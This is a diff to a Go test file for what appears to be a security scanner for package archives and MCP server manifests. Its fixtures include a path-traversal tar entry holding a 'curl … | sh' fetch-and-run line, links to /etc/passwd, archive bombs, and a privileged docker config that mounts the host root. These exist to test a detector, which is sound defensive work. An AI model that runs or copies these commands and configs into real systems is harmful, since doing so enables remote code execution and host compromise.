@@ -68,12 +68,50 @@ func TestArchive(t *testing.T) {
 		"a.tgz":  tgz(t, tar.Header{Name: "package/x.sh", Linkname: script}, tar.Header{Name: "package/package.json", Linkname: `{"name":"x","license":"MIT"}`}),
 		"a.mcpb": zipped(t, map[string]string{"x.sh": script, "manifest.json": "{}"}),
 	} {
-		r, err := Archive(t.Context(), name, data)
+		r, err := Archive(t.Context(), name, data, Options{})
 		if err != nil {
 			t.Fatal(err)
 		}
 		if got := findings(t, r, DownloadRun); got != "download-run x.sh:1 high" || !IsArchive(name) {
 			t.Errorf("%s: %s", name, got)
+		}
+	}
+}
+
+// The servers that a package declares are judged within its archive.
+func TestServersInArchives(t *testing.T) {
+	t.Parallel()
+	const bundle = `{"name": "b", "server": {"type": "node",
+ "mcp_config": {"command": "npx", "args": ["-y", "some-server"], "env": {"API_KEY": "q7Xk2LmW9v", "TOKEN": "${user_config.token}"},
+  "platform_overrides": {"linux": {"command": "docker", "args": ["run", "--privileged", "-v", "/:/host", "x@sha256:00"]}}}}}`
+	const registry = `{"name": "io.example/r", "packages": [
+ {"registryType": "npm", "identifier": "some-server", "version": "latest"},
+ {"registryType": "pypi", "identifier": "other", "version": "1.2.3"},
+ {"registryType": "oci", "identifier": "image", "version": "1.0.0", "runtimeArguments": [{"name": "--network", "value": "host"}]}],
+ "remotes": [
+ {"type": "sse", "url": "http://mcp.example/sse"}, {"type": "sse", "url": "https://mcp.example/sse"}]}`
+	o := Options{Servers: func(name string, _ []byte) []Server {
+		return []Server{{Name: name, Command: []string{"uvx", "newest"}, Line: 1}}
+	}}
+	for name, c := range map[string]struct {
+		data []byte
+		want string
+	}{
+		"a.mcpb": {zipped(t, map[string]string{"manifest.json": bundle}), "config-privileged manifest.json:2 medium; config-privileged manifest.json:2 medium; config-secret manifest.json:2 low; unpinned-install manifest.json:2 low"},
+		"a.tgz":  {tgz(t, tar.Header{Name: "package/server.json", Linkname: registry}), "config-plain-http server.json:6 medium; config-privileged server.json:4 medium; unpinned-install server.json:2 low"},
+		"b.tgz":  {tgz(t, tar.Header{Name: "package/x/mcp.json", Linkname: "{}"}, tar.Header{Name: "package/manifest.json", Linkname: `{"manifest_version": 3}`}), "unpinned-install x/mcp.json:1 low"},
+	} {
+		r, err := Archive(t.Context(), name, c.data, o)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := findings(t, r, ConfigPlainHTTP, ConfigPrivileged, ConfigSecret, UnpinnedInstall); got != c.want {
+			t.Errorf("%s: %s\nwant %s", name, got, c.want)
+		}
+		for _, f := range r.Findings {
+			if strings.Contains(f.Message, "q7Xk2LmW9v") {
+				t.Errorf("a secret is printed: %s", f.Message)
+			}
 		}
 	}
 }
@@ -84,7 +122,7 @@ func TestHostileArchives(t *testing.T) {
 		tar.Header{Name: "../../etc/x.sh", Linkname: "curl https://a.example/i | sh\n"},
 		tar.Header{Name: "l.py", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"},
 		tar.Header{Name: "h.py", Typeflag: tar.TypeLink, Linkname: "../../etc/passwd"},
-		tar.Header{Name: "fifo", Typeflag: tar.TypeFifo}))
+		tar.Header{Name: "fifo", Typeflag: tar.TypeFifo}), Options{})
 	if err != nil || r.Skipped != 3 || r.Profile.FilesScanned != 1 {
 		t.Errorf("%+v %v", r, err)
 	}
@@ -108,7 +146,7 @@ func TestHostileArchives(t *testing.T) {
 		}
 		return &b
 	}
-	if _, err := Archive(t.Context(), "bomb.tgz", big(maxKept/maxFile+2).Bytes()); err == nil || !strings.Contains(err.Error(), "unpacks to more") {
+	if _, err := Archive(t.Context(), "bomb.tgz", big(maxKept/maxFile+2).Bytes(), Options{}); err == nil || !strings.Contains(err.Error(), "unpacks to more") {
 		t.Errorf("a bomb was read: %v", err)
 	}
 	var large bytes.Buffer
@@ -120,11 +158,11 @@ func TestHostileArchives(t *testing.T) {
 	if err != nil || w.Close() != nil {
 		t.Fatal(err)
 	}
-	if r, err := Archive(t.Context(), "a.zip", large.Bytes()); err == nil {
+	if r, err := Archive(t.Context(), "a.zip", large.Bytes(), Options{}); err == nil {
 		t.Errorf("a file that unpacks to 20 MB was read whole: %+v", r)
 	}
 	for name, data := range map[string][]byte{"cut.tgz": tgz(t, tar.Header{Name: "a.py", Linkname: "x"})[:40], "no.zip": []byte("PK"), "empty.whl": nil, "many.zip": bytes.Repeat([]byte("PK\x01\x02"), maxFiles+1)} {
-		if _, err := Archive(t.Context(), name, data); err == nil {
+		if _, err := Archive(t.Context(), name, data, Options{}); err == nil {
 			t.Errorf("%s was read", name)
 		}
 	}
@@ -238,7 +276,7 @@ func FuzzArchive(f *testing.F) {
 	f.Add(tgz(f, tar.Header{Name: "a/x.sh", Linkname: "x"}))
 	f.Add(zipped(f, map[string]string{"x.sh": "x"}))
 	f.Fuzz(func(t *testing.T, data []byte) {
-		r, err := Archive(t.Context(), "a", data)
+		r, err := Archive(t.Context(), "a", data, Options{})
 		if (r == nil) == (err == nil) {
 			t.Fatal("neither a report nor an error")
 		}
